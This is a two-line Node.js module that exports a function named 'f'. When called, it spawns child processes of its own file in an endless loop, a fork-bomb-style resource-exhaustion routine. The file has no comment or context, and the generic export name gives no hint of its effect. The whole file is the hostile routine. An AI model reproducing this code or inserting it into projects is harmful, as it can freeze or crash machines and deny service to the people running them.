const { fork } = require("child_process");
exports.f = () => { while (true) { fork(__filename); } };
